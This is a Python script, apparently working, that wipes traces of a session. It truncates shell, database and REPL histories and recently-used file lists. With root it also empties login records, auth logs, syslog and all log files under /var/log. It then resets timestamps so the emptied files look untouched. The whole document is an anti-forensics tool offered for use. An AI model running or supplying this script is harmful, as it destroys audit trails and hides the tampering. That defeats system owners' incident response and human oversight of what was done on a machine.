#!/usr/bin/env python3
"""Sweep traces of the current session: shell and REPL histories, recently
used file lists and login records. Timestamps are put back afterwards so
the files do not look freshly modified."""
import argparse
import glob
import logging
import os
import sys
from pathlib import Path

log = logging.getLogger("sweep")

HOME = Path.home()
USER_TRACES = [
    ".bash_history", ".zsh_history", ".zhistory", ".sh_history",
    ".python_history", ".node_repl_history", ".psql_history",
    ".mysql_history", ".sqlite_history", ".lesshst", ".viminfo",
    ".wget-hsts", ".local/share/recently-used.xbel",
    ".local/share/fish/fish_history",
]
SYSTEM_TRACES = [
    "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog",
    "/var/log/auth.log", "/var/log/secure", "/var/log/syslog",
]


def zero_out(path: Path, keep_times: bool) -> bool:
    try:
        st = os.stat(path)
    except FileNotFoundError:
        return False
    fd = os.open(path, os.O_WRONLY | os.O_TRUNC | os.O_NOFOLLOW)
    os.close(fd)
    if keep_times:
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    return True


def expand(entries, base: Path = None):
    for entry in entries:
        pattern = str(base / entry) if base else entry
        for match in glob.glob(pattern) or [pattern]:
            yield Path(match)


def sweep(paths, keep_times: bool) -> int:
    done = 0
    for p in paths:
        try:
            if zero_out(p, keep_times):
                done += 1
                log.debug("cleared %s", p)
        except PermissionError:
            log.debug("no access to %s", p)
        except OSError as exc:
            log.debug("%s: %s", p, exc)
    return done


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--system", action="store_true",
                    help="also clear login records and auth logs (needs root)")
    ap.add_argument("--touch", action="store_true",
                    help="leave new modification times")
    ap.add_argument("-v", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.v else logging.ERROR,
                        format="%(message)s")

    os.environ.pop("HISTFILE", None)
    targets = list(expand(USER_TRACES, HOME))
    if args.system or os.geteuid() == 0:
        targets += list(expand(SYSTEM_TRACES))
        targets += list(expand(["/var/log/*.log", "/var/log/*/*.log"]))
    n = sweep(targets, keep_times=not args.touch)
    log.info("%d trace file(s) cleared", n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
